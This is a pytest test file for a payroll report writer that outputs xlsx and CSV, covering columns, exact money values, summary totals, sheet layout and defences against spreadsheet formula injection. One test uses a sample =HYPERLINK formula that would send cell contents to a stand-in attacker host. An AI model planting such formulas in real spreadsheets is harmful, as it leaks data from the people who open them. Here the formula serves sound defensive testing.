"""The result spreadsheet: columns, money as numbers, summary totals, safety and atomic writes."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import tempfile
import uuid
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import structlog
from openpyxl.utils import get_column_letter

from runner import report
from runner.domain import RowRecord, RowStatus, RunInfo
from runner.errors import ConfigError
from runner.report import (
    MONEY_FORMAT,
    RESULT_COLUMNS,
    SANDBOX_NOTICE,
    TIME_FORMAT,
    summary_path_for,
    write_report,
)
from runner.report import xlsx as report_xlsx
from tests.e2e import ROOT

START = datetime(2026, 11, 1, 9, 30, 15, tzinfo=UTC)
INFO = RunInfo(
    run_key="payroll-2026-11",
    provider="uncash",
    job_file="jobs/payroll.csv",
    started_at=START,
    finished_at=START + timedelta(minutes=5),
)
CENT = Decimal("0.01")
MONEY_FIELDS = (
    "amount",
    "fee",
    "total_charged",
    "card_balance_before",
    "card_balance_after",
    "wallet_balance_after",
)


def record(row: int = 1, **changes: Any) -> RowRecord:
    values: dict[str, Any] = {
        "row": row,
        "card_id": f"card-{row}",
        "amount": Decimal("250.00"),
        "reference": f"EMP-{row:04d}",
        "status": RowStatus.SUCCEEDED,
        "fee": Decimal("5.40"),
        "total_charged": Decimal("255.40"),
        "card_balance_before": Decimal("10.00"),
        "card_balance_after": Decimal("260.00"),
        "wallet_balance_after": Decimal("9744.60"),
        "transaction_id": f"tx-{row}",
        "invoice_id": f"inv-{row}",
        "attempts": 1,
        "started_at": START,
        "finished_at": START + timedelta(seconds=2),
    }
    values.update(changes)
    return RowRecord(**values)


def stream(*records: RowRecord) -> Iterator[RowRecord]:
    """A one-shot iterator, as the ledger hands rows over."""
    yield from records


def xlsx_rows(path: Path, sheet: str = "Results") -> list[list[Any]]:
    workbook = openpyxl.load_workbook(path)
    return [[cell.value for cell in row] for row in workbook[sheet].iter_rows()]


def xlsx_cells(path: Path, sheet: str = "Results") -> list[dict[str, Any]]:
    """Data rows of a sheet as {header: cell}."""
    rows = list(openpyxl.load_workbook(path)[sheet].iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def xlsx_summary(path: Path) -> dict[str, Any]:
    """The Summary's item | value lines, down to the blank line before the totals by status."""
    lines: dict[str, Any] = {}
    for row in xlsx_rows(path, "Summary")[1:]:
        if row[0] is None:
            break
        lines[row[0]] = row[1]
    return lines


def xlsx_by_status(path: Path) -> list[list[Any]]:
    """The Summary's totals-by-status table as cells: header, one line per status, all rows."""
    rows = list(openpyxl.load_workbook(path)["Summary"].iter_rows())
    (title,) = [n for n, row in enumerate(rows) if row[0].value == "Totals by status"]
    return [list(row) for row in rows[title + 1 :]]


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def csv_summary(path: Path) -> dict[str, str]:
    with summary_path_for(path).open(newline="", encoding="utf-8") as file:
        return {line["item"]: line["value"] for line in csv.DictReader(file)}


def as_money(value: Any) -> Decimal:
    return Decimal(str(value)).quantize(CENT)


# --- columns and rows ---------------------------------------------------------------------------


def test_xlsx_header_is_the_contract_columns_then_extras(tmp_path: Path) -> None:
    """The Results header lists the contract columns in order, then the job's extra columns."""
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("department", "cost_centre"))
    write_report(tmp_path / "r.xlsx", stream(record()), info)
    assert xlsx_rows(tmp_path / "r.xlsx")[0] == [*RESULT_COLUMNS, "department", "cost_centre"]


def test_csv_header_is_the_contract_columns_then_extras(tmp_path: Path) -> None:
    """The CSV header lists the contract columns in order, then the job's extra columns."""
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("department",))
    write_report(tmp_path / "r.csv", stream(record()), info)
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as file:
        assert next(csv.reader(file)) == [*RESULT_COLUMNS, "department"]


def test_result_columns_match_the_contract() -> None:
    """RESULT_COLUMNS is the contract's list in its order, then the currency column added
    after it (readers by position keep theirs)."""
    contract = (
        "row, card_id, amount, reference, status, fee, total_charged, card_balance_before, "
        "card_balance_after, wallet_balance_after, transaction_id, invoice_id, attempts, error, "
        "started_at, finished_at"
    )
    assert (*contract.split(", "), "currency") == RESULT_COLUMNS


def test_xlsx_has_one_row_per_record_in_job_order(tmp_path: Path) -> None:
    """Every record becomes one Results row, in the order given."""
    write_report(tmp_path / "r.xlsx", stream(*(record(n) for n in range(1, 6))), INFO)
    rows = xlsx_cells(tmp_path / "r.xlsx")
    assert [(r["row"].value, r["card_id"].value) for r in rows] == [
        (n, f"card-{n}") for n in range(1, 6)
    ]


def test_csv_has_one_row_per_record_in_job_order(tmp_path: Path) -> None:
    """Every record becomes one CSV line, in the order given."""
    write_report(tmp_path / "r.csv", stream(*(record(n) for n in range(1, 6))), INFO)
    assert [(r["row"], r["card_id"]) for r in csv_rows(tmp_path / "r.csv")] == [
        (str(n), f"card-{n}") for n in range(1, 6)
    ]


def test_xlsx_statuses_are_the_contract_words(tmp_path: Path) -> None:
    """The status column holds each row's status as the contract spells it."""
    records = [record(n, status=s) for n, s in enumerate(RowStatus, start=1)]
    write_report(tmp_path / "r.xlsx", stream(*records), INFO)
    assert [r["status"].value for r in xlsx_cells(tmp_path / "r.xlsx")] == [
        s.value for s in RowStatus
    ]


def test_csv_statuses_are_the_contract_words(tmp_path: Path) -> None:
    """The CSV status column holds each row's status as the contract spells it."""
    records = [record(n, status=s) for n, s in enumerate(RowStatus, start=1)]
    write_report(tmp_path / "r.csv", stream(*records), INFO)
    assert [r["status"] for r in csv_rows(tmp_path / "r.csv")] == [s.value for s in RowStatus]


def test_xlsx_carries_extra_columns_by_name(tmp_path: Path) -> None:
    """Extra values land under their own column whatever their order; a missing one is empty."""
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("department", "cost_centre"))
    records = [
        record(1, extra=(("cost_centre", "CC-9"), ("department", "ops"))),
        record(2, extra=(("department", "sales"),)),
    ]
    write_report(tmp_path / "r.xlsx", stream(*records), info)
    rows = xlsx_cells(tmp_path / "r.xlsx")
    assert [(r["department"].value, r["cost_centre"].value) for r in rows] == [
        ("ops", "CC-9"),
        ("sales", None),
    ]


def test_csv_carries_extra_columns_by_name(tmp_path: Path) -> None:
    """Extra values land under their own CSV column; a missing one is empty."""
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("department", "cost_centre"))
    records = [
        record(1, extra=(("cost_centre", "CC-9"), ("department", "ops"))),
        record(2, extra=(("department", "sales"),)),
    ]
    write_report(tmp_path / "r.csv", stream(*records), info)
    rows = csv_rows(tmp_path / "r.csv")
    assert [(r["department"], r["cost_centre"]) for r in rows] == [("ops", "CC-9"), ("sales", "")]


def test_extra_column_named_like_a_contract_column_is_renamed(tmp_path: Path) -> None:
    """A job column called `status` does not shadow the row status: it becomes `status (job)`."""
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("status",))
    write_report(tmp_path / "r.csv", stream(record(extra=(("status", "temp"),))), info)
    (row,) = csv_rows(tmp_path / "r.csv")
    assert (row["status"], row["status (job)"]) == ("succeeded", "temp")


def test_empty_job_still_has_a_results_header(tmp_path: Path) -> None:
    """With no records, Results holds just the header and the Summary counts zero rows."""
    write_report(tmp_path / "r.xlsx", stream(), INFO)
    assert xlsx_rows(tmp_path / "r.xlsx") == [list(RESULT_COLUMNS)]
    assert xlsx_summary(tmp_path / "r.xlsx")["rows"] == 0


# --- money and times ----------------------------------------------------------------------------


def test_xlsx_money_cells_are_numbers_with_two_decimal_format(tmp_path: Path) -> None:
    """Every money cell is numeric (not text), formatted #,##0.00, with its exact value."""
    rec = record(
        amount=Decimal("1234567.89"),
        fee=Decimal("0.30"),
        total_charged=Decimal("1234568.19"),
        card_balance_before=Decimal("0.10"),
        card_balance_after=Decimal("1234567.99"),
        wallet_balance_after=Decimal("42"),
    )
    write_report(tmp_path / "r.xlsx", stream(rec), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    for name in MONEY_FIELDS:
        cell = row[name]
        assert cell.data_type == "n", name
        assert not isinstance(cell.value, str), name
        assert cell.number_format == MONEY_FORMAT, name
        assert as_money(cell.value) == getattr(rec, name), name


def test_xlsx_missing_money_is_an_empty_cell(tmp_path: Path) -> None:
    """A money value of None leaves its cell empty, not 0 and not text."""
    rec = record(
        status=RowStatus.FAILED,
        fee=None,
        total_charged=None,
        card_balance_before=None,
        card_balance_after=None,
        wallet_balance_after=None,
        transaction_id=None,
        invoice_id=None,
        error="card frozen",
    )
    write_report(tmp_path / "r.xlsx", stream(rec), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    assert [row[name].value for name in MONEY_FIELDS[1:]] == [None] * 5
    assert (row["transaction_id"].value, row["invoice_id"].value) == (None, None)


def test_csv_money_has_exactly_two_decimals(tmp_path: Path) -> None:
    """CSV money reads as two-decimal text, never a float rendering; None is empty."""
    rec = record(
        amount=Decimal("250"),
        fee=Decimal("0.1") + Decimal("0.2"),
        total_charged=Decimal("250.30"),
        card_balance_before=Decimal("1E+3"),
        card_balance_after=None,
        wallet_balance_after=Decimal("1234567.8"),
    )
    write_report(tmp_path / "r.csv", stream(rec), INFO)
    (row,) = csv_rows(tmp_path / "r.csv")
    assert [row[name] for name in MONEY_FIELDS] == [
        "250.00",
        "0.30",
        "250.30",
        "1000.00",
        "",
        "1234567.80",
    ]


def test_negative_money_is_a_number_not_neutralised_text(tmp_path: Path) -> None:
    """A negative balance stays a number: the formula guard touches text only."""
    rec = record(card_balance_before=Decimal("-5.25"))
    write_report(tmp_path / "r.xlsx", stream(rec), INFO)
    write_report(tmp_path / "r.csv", stream(rec), INFO)
    (cell,) = [r["card_balance_before"] for r in xlsx_cells(tmp_path / "r.xlsx")]
    (line,) = csv_rows(tmp_path / "r.csv")
    assert (cell.data_type, as_money(cell.value)) == ("n", Decimal("-5.25"))
    assert line["card_balance_before"] == "-5.25"


def test_xlsx_times_are_naive_utc_datetimes(tmp_path: Path) -> None:
    """Timestamps become UTC wall-clock datetimes with a date-time format, whatever the zone."""
    paris = timezone(timedelta(hours=1))
    rec = record(
        started_at=datetime(2026, 11, 1, 10, 30, 15, tzinfo=paris),
        finished_at=datetime(2026, 11, 1, 9, 30, 17, tzinfo=UTC),
    )
    write_report(tmp_path / "r.xlsx", stream(rec), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    started, finished = row["started_at"].value, row["finished_at"].value
    assert (started.tzinfo, finished.tzinfo) == (None, None)
    assert [started.replace(tzinfo=UTC), finished.replace(tzinfo=UTC)] == [
        datetime(2026, 11, 1, 9, 30, 15, tzinfo=UTC),
        datetime(2026, 11, 1, 9, 30, 17, tzinfo=UTC),
    ]
    assert {row["started_at"].number_format, row["finished_at"].number_format} == {TIME_FORMAT}


def test_csv_times_are_iso_utc_with_z(tmp_path: Path) -> None:
    """CSV timestamps are ISO-8601 in UTC to the second, marked Z; None is empty."""
    paris = timezone(timedelta(hours=1))
    rec = record(started_at=datetime(2026, 11, 1, 10, 30, 15, 999, tzinfo=paris), finished_at=None)
    write_report(tmp_path / "r.csv", stream(rec), INFO)
    (row,) = csv_rows(tmp_path / "r.csv")
    assert (row["started_at"], row["finished_at"]) == ("2026-11-01T09:30:15Z", "")


# --- summary ------------------------------------------------------------------------------------


def summary_records() -> list[RowRecord]:
    return [
        record(1, amount=Decimal("0.10"), fee=Decimal("0.10"), total_charged=Decimal("0.20")),
        record(
            2,
            status=RowStatus.PENDING,
            amount=Decimal("0.20"),
            fee=Decimal("0.20"),
            total_charged=Decimal("0.40"),
        ),
        record(3, status=RowStatus.FAILED, amount=Decimal("100.00"), fee=None, total_charged=None),
        record(
            4,
            status=RowStatus.NEEDS_REVIEW,
            amount=Decimal("0.01"),
            fee=Decimal("0.01"),
            total_charged=Decimal("0.02"),
        ),
        record(5, status=RowStatus.SUCCEEDED, amount=Decimal("0.30")),
    ]


def test_xlsx_summary_counts_every_status_including_zero(tmp_path: Path) -> None:
    """The Summary counts rows by every status, with 0 for a status no row has."""
    write_report(tmp_path / "r.xlsx", stream(*summary_records()), INFO)
    summary = xlsx_summary(tmp_path / "r.xlsx")
    assert summary["rows"] == 5
    assert {s: summary[f"rows {s.value}"] for s in RowStatus} == {
        RowStatus.NOT_ATTEMPTED: 0,
        RowStatus.PENDING: 1,
        RowStatus.SUCCEEDED: 2,
        RowStatus.FAILED: 1,
        RowStatus.NEEDS_REVIEW: 1,
    }


def test_xlsx_summary_totals_are_exact_numbers(tmp_path: Path) -> None:
    """Totals of amount, fee and total charged, overall and for money that moved, are exact."""
    write_report(tmp_path / "r.xlsx", stream(*summary_records()), INFO)
    workbook = openpyxl.load_workbook(tmp_path / "r.xlsx")
    cells = {row[0].value: row[1] for row in workbook["Summary"].iter_rows(min_row=2)}
    expected = {
        "amount, all rows": Decimal("100.61"),
        "fee, all rows": Decimal("5.71"),
        "total charged, all rows": Decimal("256.02"),
        "amount, succeeded + pending": Decimal("0.60"),
        "fee, succeeded + pending": Decimal("5.70"),
        "total charged, succeeded + pending": Decimal("256.00"),
    }
    assert {key: as_money(cells[key].value) for key in expected} == expected
    assert {cells[key].number_format for key in expected} == {MONEY_FORMAT}
    assert {cells[key].data_type for key in expected} == {"n"}


def test_xlsx_summary_has_totals_by_status_as_a_table(tmp_path: Path) -> None:
    """Below its lines the Summary tables rows, amount, fee and total charged per status, exact."""
    write_report(tmp_path / "r.xlsx", stream(*summary_records()), INFO)
    header, *lines, total = xlsx_by_status(tmp_path / "r.xlsx")
    assert [cell.value for cell in header] == ["status", "rows", "amount", "fee", "total charged"]
    money = [
        [line[0].value, line[1].value, *(as_money(cell.value) for cell in line[2:])]
        for line in [*lines, total]
    ]
    assert money == [
        ["succeeded", 2, Decimal("0.40"), Decimal("5.50"), Decimal("255.60")],
        ["pending", 1, Decimal("0.20"), Decimal("0.20"), Decimal("0.40")],
        ["failed", 1, Decimal("100.00"), Decimal("0.00"), Decimal("0.00")],
        ["needs_review", 1, Decimal("0.01"), Decimal("0.01"), Decimal("0.02")],
        ["not_attempted", 0, Decimal("0.00"), Decimal("0.00"), Decimal("0.00")],
        ["all rows", 5, Decimal("100.61"), Decimal("5.71"), Decimal("256.02")],
    ]
    for line in [*lines, total]:
        assert [cell.data_type for cell in line[1:]] == ["n"] * 4
        assert {cell.number_format for cell in line[2:]} == {MONEY_FORMAT}
    assert all(cell.font.b for cell in total)


def test_summary_status_labels_have_the_results_colours(tmp_path: Path) -> None:
    """In the totals table failed and needs_review stand out in bold red/brown on a fill."""
    write_report(tmp_path / "r.xlsx", stream(*summary_records()), INFO)
    labels = {line[0].value: line[0] for line in xlsx_by_status(tmp_path / "r.xlsx")[1:-1]}
    failed, review = labels["failed"], labels["needs_review"]
    assert (failed.font.b, failed.font.color.rgb, failed.fill.fgColor.rgb) == (
        True,
        "009C0006",
        "00FFC7CE",
    )
    assert (review.font.b, review.fill.fill_type) == (True, "solid")
    assert labels["succeeded"].fill.fill_type is None


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_summary_says_when_money_moved_without_a_known_fee_or_total(
    tmp_path: Path, suffix: str
) -> None:
    """Rows that moved money without a fee or total charged from the provider (Alix reports no
    total; a reconciled Uncash topup no fee) are named in the Summary, so that the totals,
    which leave them out, do not read as the whole charge."""
    records = [
        record(1, total_charged=None),  # Alix-like: fee known, total not
        record(2, status=RowStatus.PENDING, total_charged=None),
        record(3, fee=None),  # reconciled: total known from another source, fee not
        record(4, status=RowStatus.FAILED, fee=None, total_charged=None),  # nothing moved
        record(5, status=RowStatus.NEEDS_REVIEW, fee=None, total_charged=None),
    ]
    path = tmp_path / f"r{suffix}"
    write_report(path, stream(*records), INFO)
    summary = xlsx_summary(path) if suffix == ".xlsx" else csv_summary(path)
    assert summary["total charged not known"] == (
        "for 2 succeeded or pending rows: the provider did not report it; "
        "the total charged totals leave them out"
    )
    assert summary["fee not known"] == (
        "for 1 succeeded or pending row: the provider did not report it; "
        "the fee totals leave them out"
    )
    assert as_money(summary["total charged, succeeded + pending"]) == Decimal("255.40")


def test_summary_has_no_unknown_lines_when_every_moved_row_is_known(tmp_path: Path) -> None:
    write_report(tmp_path / "r.xlsx", stream(*summary_records()), INFO)
    summary = xlsx_summary(tmp_path / "r.xlsx")
    assert "fee not known" not in summary
    assert "total charged not known" not in summary


def test_csv_summary_is_a_sibling_file_with_the_same_lines(tmp_path: Path) -> None:
    """A CSV report's summary goes to <stem>.summary.csv with the xlsx Summary's items."""
    write_report(tmp_path / "r.xlsx", stream(*summary_records()), INFO)
    write_report(tmp_path / "r.csv", stream(*summary_records()), INFO)
    in_csv = csv_summary(tmp_path / "r.csv")
    assert summary_path_for(tmp_path / "r.csv") == tmp_path / "r.summary.csv"
    assert list(in_csv) == list(xlsx_summary(tmp_path / "r.xlsx"))
    assert in_csv["fee, all rows"] == "5.71"
    assert in_csv["amount, succeeded + pending"] == "0.60"
    assert in_csv["rows not_attempted"] == "0"


def test_summary_describes_the_run(tmp_path: Path) -> None:
    """The Summary names provider, run key, job file, UTC start and finish, and the notes."""
    info = RunInfo(
        "payroll-2026-11",
        "alix",
        "jobs/payroll.yaml",
        START,
        START + timedelta(minutes=5),
        notes=(("wait-settle", "30 s"),),
    )
    write_report(tmp_path / "r.xlsx", stream(record()), info)
    summary = xlsx_summary(tmp_path / "r.xlsx")
    assert (summary["provider"], summary["run key"], summary["job file"]) == (
        "alix",
        "payroll-2026-11",
        "jobs/payroll.yaml",
    )
    assert summary["started (UTC)"].replace(tzinfo=UTC) == START
    assert summary["finished (UTC)"].replace(tzinfo=UTC) == START + timedelta(minutes=5)
    assert summary["times"] == "UTC"
    assert summary["wait-settle"] == "30 s"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_sandbox_run_says_so_in_the_summary(tmp_path: Path, suffix: str) -> None:
    """A sandbox run's Summary carries the SANDBOX line."""
    info = RunInfo("k", "sandbox", "job.csv")
    path = write_report(tmp_path / f"r{suffix}", stream(record()), info)
    summary = xlsx_summary(path) if suffix == ".xlsx" else csv_summary(path)
    assert SANDBOX_NOTICE in summary
    assert summary["provider"] == "sandbox"


def test_sandbox_notice_is_a_red_banner_and_on_every_printed_page(tmp_path: Path) -> None:
    """The SANDBOX line is large bold red on a fill, and heads each printed page of each sheet."""
    write_report(tmp_path / "r.xlsx", stream(record()), RunInfo("k", "sandbox", "job.csv"))
    workbook = openpyxl.load_workbook(tmp_path / "r.xlsx")
    banner = workbook["Summary"]["A2"]
    assert banner.value == SANDBOX_NOTICE
    assert (banner.font.b, banner.font.sz, banner.font.color.rgb) == (True, 14, "009C0006")
    assert banner.fill.fill_type == "solid"
    for sheet in workbook:
        assert sheet.oddHeader.center.text == SANDBOX_NOTICE, sheet.title


def test_real_provider_pages_are_headed_by_the_run_not_sandbox(tmp_path: Path) -> None:
    """A real run's printed pages name provider and run key (its & escaped), page N of M."""
    write_report(tmp_path / "r.xlsx", stream(record()), RunInfo("R&D-11", "uncash", "job.csv"))
    for sheet in openpyxl.load_workbook(tmp_path / "r.xlsx"):
        assert sheet.oddHeader.center.text is None
        assert sheet.oddHeader.left.text == "uncash · R&&D-11"
        assert sheet.oddFooter.center.text == "Page &P of &N"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_real_provider_run_has_no_sandbox_line(tmp_path: Path, suffix: str) -> None:
    """A run on a real provider never mentions the sandbox."""
    path = write_report(tmp_path / f"r{suffix}", stream(record()), INFO)
    summary = xlsx_summary(path) if suffix == ".xlsx" else csv_summary(path)
    assert not any("SANDBOX" in str(key) for key in summary)


# --- formula injection --------------------------------------------------------------------------


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_xlsx_text_starting_like_a_formula_is_a_string_cell_as_it_is(
    tmp_path: Path, lead: str
) -> None:
    """Text starting with a formula trigger is an explicit string cell holding exactly the
    job's text: no guard quote, and no formula in the sheet's XML."""
    text = f"{lead}1+2"
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("note",))
    rec = record(
        card_id=text,
        reference=text,
        transaction_id=text,
        invoice_id=text,
        error=text,
        extra=(("note", text),),
    )
    write_report(tmp_path / "r.xlsx", stream(rec), info)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    # Reading XML turns a raw carriage return into a line feed.
    stored = text.replace("\r", "\n")
    for name in ("card_id", "reference", "transaction_id", "invoice_id", "error", "note"):
        assert (row[name].value, row[name].data_type) == (stored, "s"), name
    for sheet in ("sheet1.xml", "sheet2.xml", "sheet3.xml"):
        xml = sheet_xml(tmp_path / "r.xlsx", sheet)
        assert "<f>" not in xml, sheet
        assert "'" + text[0] not in xml, sheet


def sheet_xml(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/{name}").decode()


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_starting_like_a_formula_is_quoted(tmp_path: Path, lead: str) -> None:
    """In CSV too, text starting with a formula trigger gets a leading quote."""
    text = f"{lead}1+2"
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("note",))
    rec = record(
        card_id=text,
        reference=text,
        transaction_id=text,
        invoice_id=text,
        error=text,
        extra=(("note", text),),
    )
    write_report(tmp_path / "r.csv", stream(rec), info)
    (row,) = csv_rows(tmp_path / "r.csv")
    for name in ("card_id", "reference", "transaction_id", "invoice_id", "error", "note"):
        assert row[name] == "'" + text, name


def test_hyperlink_reference_comes_back_as_literal_text(tmp_path: Path) -> None:
    """A reference of =HYPERLINK(...) is the same text in the sheet, not a formula."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    write_report(tmp_path / "r.xlsx", stream(record(reference=evil)), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    assert row["reference"].data_type != "f"
    assert row["reference"].value == evil


def test_summary_text_is_guarded_in_csv_and_exact_in_xlsx(tmp_path: Path) -> None:
    """Strings in the Summary (job file, notes) get the CSV formula guard; the xlsx holds them
    as they are, in string cells."""
    info = RunInfo("=run", "uncash", "@job.csv", notes=(("-note", "+value"),))
    write_report(tmp_path / "r.xlsx", stream(record()), info)
    write_report(tmp_path / "r.csv", stream(record()), info)
    in_csv = csv_summary(tmp_path / "r.csv")
    assert (in_csv["run key"], in_csv["job file"], in_csv["'-note"]) == (
        "'=run",
        "'@job.csv",
        "'+value",
    )
    in_xlsx = xlsx_summary(tmp_path / "r.xlsx")
    assert (in_xlsx["run key"], in_xlsx["job file"], in_xlsx["-note"]) == (
        "=run",
        "@job.csv",
        "+value",
    )


def test_excel_error_words_stay_text(tmp_path: Path) -> None:
    """A reference like #N/A is kept as the text it is, not turned into an Excel error."""
    write_report(tmp_path / "r.xlsx", stream(record(reference="#N/A")), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    assert (row["reference"].value, row["reference"].data_type) == ("#N/A", "s")


def test_control_characters_do_not_break_the_xlsx(tmp_path: Path) -> None:
    """An error text with control characters is written without them instead of failing."""
    write_report(tmp_path / "r.xlsx", stream(record(error="bad\x00 gate\x1bway")), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    assert row["error"].value == "bad gateway"


# --- sheet layout -------------------------------------------------------------------------------


def test_results_header_is_frozen_bold_and_filtered(tmp_path: Path) -> None:
    """Results freezes and bolds its header row and puts an autofilter over the data."""
    write_report(tmp_path / "r.xlsx", stream(record(1), record(2)), INFO)
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["Results"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.auto_filter.ref == "A1:Q3"


def test_results_columns_have_widths(tmp_path: Path) -> None:
    """Every Results column gets a width up front, the card id wide enough for a UUID."""
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("department",))
    write_report(tmp_path / "r.xlsx", stream(record()), info)
    dims = openpyxl.load_workbook(tmp_path / "r.xlsx")["Results"].column_dimensions
    assert all(dims[letter].width for letter in "ABCDEFGHIJKLMNOPQ")
    assert dims["B"].width >= 36


def test_results_columns_are_wide_enough_for_their_values(tmp_path: Path) -> None:
    """No ##### or cut ids: room for UUIDs, 9,999,999.99, whole timestamps and extra text."""
    info = RunInfo("k", "uncash", "job.csv", extra_columns=("department",))
    write_report(tmp_path / "r.xlsx", stream(record()), info)
    dims = openpyxl.load_workbook(tmp_path / "r.xlsx")["Results"].column_dimensions
    width = {name: dims[get_column_letter(n)].width for n, name in enumerate(RESULT_COLUMNS, 1)}
    assert min(width["card_id"], width["transaction_id"]) >= len(str(uuid.uuid4())) + 1
    assert min(width[name] for name in MONEY_FIELDS) >= len("9,999,999.99") + 1
    assert min(width["started_at"], width["finished_at"]) >= len("2026-11-01 09:30:15") + 1
    assert width["status"] >= len("not_attempted") + 1
    assert dims["R"].width >= 20  # department


def test_results_header_is_styled_and_numeric_headers_sit_right(tmp_path: Path) -> None:
    """The header font names Calibri (else LibreOffice shows a serif), has a fill, and money,
    count and time headers align right over their numbers."""
    write_report(tmp_path / "r.xlsx", stream(record()), INFO)
    header = {
        cell.value: cell for cell in openpyxl.load_workbook(tmp_path / "r.xlsx")["Results"][1]
    }
    assert {cell.font.name for cell in header.values()} == {"Calibri"}
    assert {cell.fill.fill_type for cell in header.values()} == {"solid"}
    right = {name for name, cell in header.items() if cell.alignment.horizontal == "right"}
    assert right == {"row", "attempts", "started_at", "finished_at", *MONEY_FIELDS}


def test_results_print_at_full_size_with_header_and_row_number_repeated(tmp_path: Path) -> None:
    """Printed, Results is landscape at 100 % (never squeezed to one page wide), grid lines on,
    its header row and row numbers repeated on every page; the Summary fits one portrait
    page wide."""
    write_report(tmp_path / "r.xlsx", stream(record()), INFO)
    workbook = openpyxl.load_workbook(tmp_path / "r.xlsx")
    results, summary = workbook["Results"], workbook["Summary"]
    assert not results.sheet_properties.pageSetUpPr.fitToPage
    assert results.page_setup.scale == 100
    assert summary.sheet_properties.pageSetUpPr.fitToPage
    assert (summary.page_setup.fitToWidth, summary.page_setup.fitToHeight) == (1, 0)
    for sheet in (results, summary):
        assert sheet.freeze_panes == "A2", sheet.title
    assert results.page_setup.orientation == "landscape"
    assert summary.page_setup.orientation == "portrait"
    assert results.print_title_rows == "$1:$1"
    assert results.print_title_cols == "$A:$A"
    assert results.print_options.gridLines


def test_status_cells_are_coloured_by_conditional_formatting(tmp_path: Path) -> None:
    """Each status has a conditional format over the status column's data rows, problems with
    a fill, so rows carry no style of their own."""
    write_report(tmp_path / "r.xlsx", stream(*(record(n) for n in range(1, 4))), INFO)
    formats = list(openpyxl.load_workbook(tmp_path / "r.xlsx")["Results"].conditional_formatting)
    rules = {rule.formula[0].strip('"'): rule for cf in formats for rule in cf.rules}
    assert [str(cf.sqref) for cf in formats] == ["E2:E4"]
    assert set(rules) == {status.value for status in RowStatus}
    assert {rule.operator for rule in rules.values()} == {"equal"}
    for status in ("failed", "needs_review", "pending", "not_attempted"):
        assert rules[status].dxf.fill.bgColor.rgb not in (None, "00000000"), status
    assert rules["failed"].dxf.font.b


def test_long_error_text_wraps_in_a_taller_row(tmp_path: Path) -> None:
    """A long error wraps, its row tall enough for it; short errors and no error leave rows be."""
    long_error = (
        "gave up after 4 attempts: the card's deposit did not move: the topup was not applied"
    )
    rows = [
        record(1, status=RowStatus.FAILED, error=long_error),
        record(2, status=RowStatus.FAILED, error="card_not_found"),
        record(3),
        record(4, status=RowStatus.FAILED, error="#N/A"),
    ]
    write_report(tmp_path / "r.xlsx", stream(*rows), INFO)
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["Results"]
    errors = [sheet[f"N{n}"] for n in range(2, 6)]
    assert [cell.value for cell in errors] == [long_error, "card_not_found", None, "#N/A"]
    assert [cell.alignment.wrap_text for cell in errors] == [True, True, None, True]
    assert errors[3].data_type == "s"
    assert sheet.row_dimensions[2].height == 30
    assert [sheet.row_dimensions[n].height for n in (3, 4, 5)] == [None, None, None]


def test_sheets_are_summary_then_results(tmp_path: Path) -> None:
    """The workbook opens on the Summary, followed by Results, then the Print layout."""
    write_report(tmp_path / "r.xlsx", stream(record()), INFO)
    sheets = openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames
    assert sheets == ["Summary", "Results", "Print"]


def test_rows_beyond_the_sheet_limit_continue_on_more_sheets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past the per-sheet row limit, rows go on to `Results 2`, `Results 3`, each with a header."""
    monkeypatch.setattr(report_xlsx, "MAX_SHEET_ROWS", 3)
    write_report(tmp_path / "r.xlsx", stream(*(record(n) for n in range(1, 6))), INFO)
    workbook = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert workbook.sheetnames == ["Summary", "Results", "Results 2", "Results 3", "Print"]
    found = []
    for name in ("Results", "Results 2", "Results 3"):
        rows = xlsx_rows(tmp_path / "r.xlsx", name)
        assert rows[0] == list(RESULT_COLUMNS)
        found += [row[0] for row in rows[1:]]
    assert found == [1, 2, 3, 4, 5]


def test_summary_mentions_several_results_sheets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When rows span several Results sheets, the Summary says how many and still counts all."""
    monkeypatch.setattr(report_xlsx, "MAX_SHEET_ROWS", 3)
    write_report(tmp_path / "r.xlsx", stream(*(record(n) for n in range(1, 6))), INFO)
    summary = xlsx_summary(tmp_path / "r.xlsx")
    assert summary["Results sheets"].startswith("3 ")
    assert summary["rows"] == 5


def test_a_full_sheet_opens_no_empty_next_sheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows that exactly fill a sheet leave no empty `Results 2` and no sheet count line."""
